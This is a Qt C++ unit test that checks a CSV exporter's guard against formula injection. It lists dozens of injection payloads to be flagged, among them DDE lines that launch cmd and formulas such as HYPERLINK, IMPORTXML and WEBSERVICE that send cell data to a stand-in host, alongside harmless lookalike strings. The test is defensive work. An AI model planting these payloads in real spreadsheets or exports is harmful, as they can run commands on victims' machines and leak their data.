#include "app/exporters/formulaguard.h"

#include <QTest>

using namespace Qt::StringLiterals;

/// Payloads as they are passed round for CSV injection, and harmless text that looks like them.
class TestFormulaGuard : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void tellsFormulas_data();
    void tellsFormulas();
};

void TestFormulaGuard::tellsFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("mightRun");
    const QStringList payloads{
        u"=1+1"_s,
        u"="_s,
        u"=cmd|'/C calc'!A0"_s,
        u"=cmd|' /C notepad'!'A1'"_s,
        u"=HYPERLINK(\"http://a.example/?\"&A1,\"open\")"_s,
        u"=IMPORTXML(CONCAT(\"http://a.example/?\",A1),\"//a\")"_s,
        u"=WEBSERVICE(\"http://a.example\")"_s,
        u"=DDE(\"cmd\";\"/C calc\";\"x\")"_s,
        u"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"_s,
        u"=10+20+cmd|'/C calc'!A0"_s,
        u"+1"_s,
        u"+cmd|'/C calc'!A0"_s,
        u"+1-2"_s,
        u"-1"_s,
        u"-cmd|'/C calc'!A0"_s,
        u"-2+3+cmd|'/C calc'!D2"_s,
        u"--1"_s,
        u"@SUM(1+1)*cmd|'/C calc'!A0"_s,
        u"@SUM(A1:A9)"_s,
        u"@"_s,
        u"\t=1+1"_s,
        u"\tcotton"_s,
        u"\r=1+1"_s,
        u"\rcotton"_s,
        u"\n=1+1"_s,
        u"\r\n=1+1"_s,
        u"＝1+1"_s,
        u"＋1"_s,
        u"－1"_s,
        u"＠SUM(1)"_s,
        u" =1+1"_s,
        u"   +1"_s,
        u" \t-1"_s,
        u"\u00A0=1+1"_s,
        u"\u3000=1+1"_s,
        u"\u3000＝1+1"_s,
        u"\u2003@SUM(1)"_s,
        u"\u202F+1"_s,
        u"\u205F-1"_s,
        u"\u200B=1+1"_s,
        u"\u200E=1+1"_s,
        u"\u2028=1+1"_s,
        u"\u2060=1+1"_s,
        u"\uFEFF=1+1"_s,
        u"\uFEFF\uFEFF =1+1"_s,
        u"\u0085=1+1"_s,
        u"\u1680=1+1"_s,
        u"\u180E=1+1"_s,
        QString(QChar(u'\0')) + u"=1+1"_s,
        u"\u000B=1+1"_s,
        u"\u000C=1+1"_s,
        u"\u007F=1+1"_s,
    };
    QVERIFY(payloads.size() >= 40);
    for (const QString &payload : payloads)
        QTest::addRow("formula %s", payload.toUtf8().toPercentEncoding().constData()) << payload << true;

    const QStringList harmless{u""_s,         u" "_s,     u"cotton"_s,   u"a=b"_s,  u"1-2"_s,      u"'=1+1"_s,
                               u"\"=1\""_s,   u"(-1)"_s,  u"棉＝花"_s,   u"　棉"_s, u"￥100"_s,    u"”=1"_s,
                               u"\u00E9=1"_s, u"a\t=1"_s, u"a\n=1"_s,    u"_=1"_s,  u"#REF!"_s,    u"\u2010-"_s,
                               u"‘=1"_s,      u"ー=1"_s,  u"𠮷=1"_s,     u"/=1"_s,  u"0"_s,        u"\u00A0"_s,
                               u"\uFEFF"_s,   u"€=1"_s,   u"\u3001=1"_s, u"！=1"_s, u"\u1681=1"_s, u"\u2070=1"_s};
    for (const QString &text : harmless)
        QTest::addRow("harmless %s", text.toUtf8().toPercentEncoding().constData()) << text << false;
}

void TestFormulaGuard::tellsFormulas()
{
    QFETCH(const QString, text);
    QTEST(exporters::mightRunAsFormula(text.toUtf8().toStdString()), "mightRun");
}

QTEST_GUILESS_MAIN(TestFormulaGuard)
#include "tst_formulaguard.moc"
